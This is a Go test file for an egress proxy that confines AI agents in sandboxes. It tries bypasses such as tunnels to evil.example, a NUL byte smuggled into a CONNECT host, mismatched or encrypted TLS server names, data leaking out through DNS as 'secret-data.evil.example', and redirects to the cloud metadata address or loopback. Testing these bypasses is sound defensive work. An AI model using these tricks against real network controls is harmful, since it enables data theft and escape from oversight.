@@ -1,0 +1,175 @@
+package attack_test
+
+import (
+	"bufio"
+	"bytes"
+	"encoding/binary"
+	"errors"
+	"io"
+	"net"
+	"net/http"
+	"net/netip"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"choir.dev/choiros/contract"
+	"choir.dev/choiros/internal/defence"
+	"choir.dev/choiros/internal/egress"
+)
+
+// The proxy is handed requests as a laxer HTTP server would read them, so that
+// what is tried is the proxy's own checks and not Go's parser.
+
+var egressRows = []Row{
+	{Number: 1, Attack: "an agent that was talked into it opens a tunnel to a host that no rule names", Defences: []defence.Name{defence.EgressRules}, Run: func(t *testing.T) Verdict {
+		return newExit(t, "allowed.example:443").tunnel(t, http.MethodConnect, "evil.example:443", clientHello("evil.example"))
+	}},
+	{Number: 2, Attack: "a NUL byte in the host that CONNECT names", Defences: []defence.Name{defence.EgressCharacters, defence.EgressNames}, Run: func(t *testing.T) Verdict {
+		return newExit(t, "tcp://*.allowed.example:443").tunnel(t, http.MethodConnect, "evil.example\x00.allowed.example:443", []byte("hello\n"))
+	}},
+	{Number: 3, Attack: "the TLS server name is not the host that CONNECT named", Defences: []defence.Name{defence.EgressServerName}, Run: func(t *testing.T) Verdict {
+		return newExit(t, "allowed.example:443").tunnel(t, http.MethodConnect, "allowed.example:443", clientHello("evil.example"))
+	}},
+	{Number: 3, Attack: "a ClientHello without a server name", Defences: []defence.Name{defence.EgressServerName}, Run: func(t *testing.T) Verdict {
+		return newExit(t, "allowed.example:443").tunnel(t, http.MethodConnect, "allowed.example:443", clientHello(""))
+	}},
+	{Number: 3, Attack: "a ClientHello that carries another, encrypted one", Defences: []defence.Name{defence.EgressHello}, Run: func(t *testing.T) Verdict {
+		return newExit(t, "allowed.example:443").tunnel(t, http.MethodConnect, "allowed.example:443", clientHello("allowed.example", 0xfe0d))
+	}},
+	{Number: 3, Attack: "something else than TLS through a tunnel that is for TLS", Defences: []defence.Name{defence.EgressTLS}, Run: func(t *testing.T) Verdict {
+		return newExit(t, "allowed.example:443").tunnel(t, http.MethodConnect, "allowed.example:443", []byte("GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n"))
+	}},
+	{Number: 5, Attack: "data leave as a name that the host resolves before it refuses", Defences: []defence.Name{defence.EgressRules}, Run: func(t *testing.T) Verdict {
+		x := newExit(t, "allowed.example:443")
+		v := x.tunnel(t, http.MethodConnect, "secret-data.evil.example:443", clientHello("secret-data.evil.example"))
+		resolved, _ := x.seen()
+		return Verdict{slices.Contains(resolved, "secret-data.evil.example"), v.Evidence}
+	}},
+	{Number: 6, Attack: "an allowed name resolves to the cloud's metadata service", Defences: []defence.Name{defence.EgressAddresses}, Run: func(t *testing.T) Verdict {
+		return toPrivate(t, "tcp://allowed.example:80", "allowed.example:80", "169.254.169.254")
+	}},
+	{Number: 6, Attack: "an allowed name resolves to loopback, as IPv4-mapped IPv6", Defences: []defence.Name{defence.EgressAddresses}, Run: func(t *testing.T) Verdict {
+		return toPrivate(t, "tcp://allowed.example:80", "allowed.example:80", "::ffff:127.0.0.1")
+	}},
+	{Number: 6, Attack: "loopback written as one number, for a resolver that reads it so", Defences: []defence.Name{defence.EgressSpelling, defence.EgressAddresses}, Run: func(t *testing.T) Verdict {
+		return toPrivate(t, "tcp://2130706433:80", "2130706433:80", "127.0.0.1")
+	}},
+	{Number: 8, Attack: "a request with another method than CONNECT gets a tunnel", Defences: []defence.Name{defence.EgressMethod}, Run: func(t *testing.T) Verdict {
+		return newExit(t, "tcp://allowed.example:80").tunnel(t, http.MethodGet, "allowed.example:80", []byte("hello\n"))
+	}},
+	{Number: 9, Attack: "a policy that failed to load goes on with the rules of before", Defences: []defence.Name{defence.EgressFailed}, Run: func(t *testing.T) Verdict {
+		x := newExit(t)
+		x.serve(t, contract.BoxTask, egress.Policy{Rules: mustRules(t, "tcp://allowed.example:80"), Err: errors.New("the registries' file can't be read")})
+		return x.tunnel(t, http.MethodConnect, "allowed.example:80", []byte("hello\n"))
+	}},
+	{Number: 9, Attack: "a kind of box that has no network is given somebody's policy", Defences: []defence.Name{defence.EgressKinds}, Run: func(t *testing.T) Verdict {
+		x := newExit(t)
+		x.serve(t, contract.BoxDirector, egress.Policy{Rules: mustRules(t, "tcp://allowed.example:80")})
+		return x.tunnel(t, http.MethodConnect, "allowed.example:80", []byte("hello\n"))
+	}},
+	{Number: 10, Attack: "evilsuffix.example under a rule for *.suffix.example", Defences: []defence.Name{defence.EgressSuffix}, Run: func(t *testing.T) Verdict {
+		return newExit(t, "tcp://*.suffix.example:443").tunnel(t, http.MethodConnect, "evilsuffix.example:443", []byte("hello\n"))
+	}},
+	{Number: 10, Attack: "another port of an allowed host", Defences: []defence.Name{defence.EgressPorts}, Run: func(t *testing.T) Verdict {
+		return newExit(t, "tcp://allowed.example:443").tunnel(t, http.MethodConnect, "allowed.example:22", []byte("hello\n"))
+	}},
+}
+
+func mustRules(t *testing.T, texts ...string) []egress.Rule {
+	t.Helper()
+	parsed, err := egress.ParseRules(texts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return parsed
+}
+
+// toPrivate asks for a name that the resolver turns into addr.
+func toPrivate(t *testing.T, rule, target, addr string) Verdict {
+	t.Helper()
+	if _, err := egress.ParseRule(rule); err != nil {
+		return Verdict{false, err.Error()}
+	}
+	x := newExit(t, rule)
+	x.answers = func(string, int) []netip.Addr { return []netip.Addr{netip.MustParseAddr(addr)} }
+	return x.tunnel(t, http.MethodConnect, target, []byte("hello\n"))
+}
+
+// tunnel asks for a tunnel and sends first through it; the attack works when
+// the far end echoes it.
+func (x *exit) tunnel(t *testing.T, method, target string, first []byte) Verdict {
+	t.Helper()
+	near, far := net.Pipe()
+	defer near.Close()
+	w := &answerer{conn: far, header: http.Header{}}
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		defer far.Close()
+		x.handler.ServeHTTP(w, &http.Request{Method: method, RequestURI: target, Host: target, URL: &url.URL{Host: target}, Header: http.Header{}})
+	}()
+	defer func() { _ = near.Close(); <-done }()
+	if err := near.SetDeadline(time.Now().Add(10 * time.Second)); err != nil {
+		t.Fatal(err)
+	}
+	r := bufio.NewReader(near)
+	head, err := r.ReadString('\n')
+	if err != nil {
+		<-done
+		return Verdict{false, strings.TrimSpace(w.said.String())}
+	}
+	if _, err := r.ReadString('\n'); err != nil {
+		return Verdict{false, head}
+	}
+	if _, err := near.Write(first); err != nil {
+		return Verdict{false, err.Error()}
+	}
+	got := make([]byte, len(first))
+	if _, err := io.ReadFull(r, got); err != nil || !bytes.Equal(got, first) {
+		return Verdict{false, "nothing came back through the tunnel"}
+	}
+	_, dialled := x.seen()
+	return Verdict{true, "the far end had it, dialled at " + strings.Join(dialled, ", ")}
+}
+
+// answerer is a ResponseWriter whose connection can be taken over.
+type answerer struct {
+	conn   net.Conn
+	header http.Header
+	said   bytes.Buffer
+}
+
+func (w *answerer) Header() http.Header         { return w.header }
+func (w *answerer) WriteHeader(int)             {}
+func (w *answerer) Write(b []byte) (int, error) { return w.said.Write(b) }
+func (w *answerer) Hijack() (net.Conn, *bufio.ReadWriter, error) {
+	return w.conn, bufio.NewReadWriter(bufio.NewReader(w.conn), bufio.NewWriter(w.conn)), nil
+}
+
+// clientHello is a ClientHello in one record, with a server name unless it is
+// empty, and further extensions that hold nothing.
+func clientHello(name string, extensions ...uint16) []byte {
+	vector := func(width int, b []byte) []byte {
+		n := binary.BigEndian.AppendUint32(nil, uint32(len(b)))
+		return append(n[4-width:], b...)
+	}
+	var ext []byte
+	add := func(kind uint16, b []byte) { ext = append(binary.BigEndian.AppendUint16(ext, kind), vector(2, b)...) }
+	if name != "" {
+		add(0, vector(2, append([]byte{0}, vector(2, []byte(name))...)))
+	}
+	for _, kind := range extensions {
+		add(kind, nil)
+	}
+	add(43, []byte{2, 3, 4}) // supported_versions
+	body := append([]byte{3, 3}, make([]byte, 32)...)
+	body = append(body, 0)                 // session
+	body = append(body, 0, 2, 0x13, 1)     // cipher suites
+	body = append(body, 1, 0)              // compression
+	body = append(body, vector(2, ext)...) //
+	msg := append([]byte{1}, vector(3, body)...)
+	return append([]byte{22, 3, 1}, vector(2, msg)...)
+}
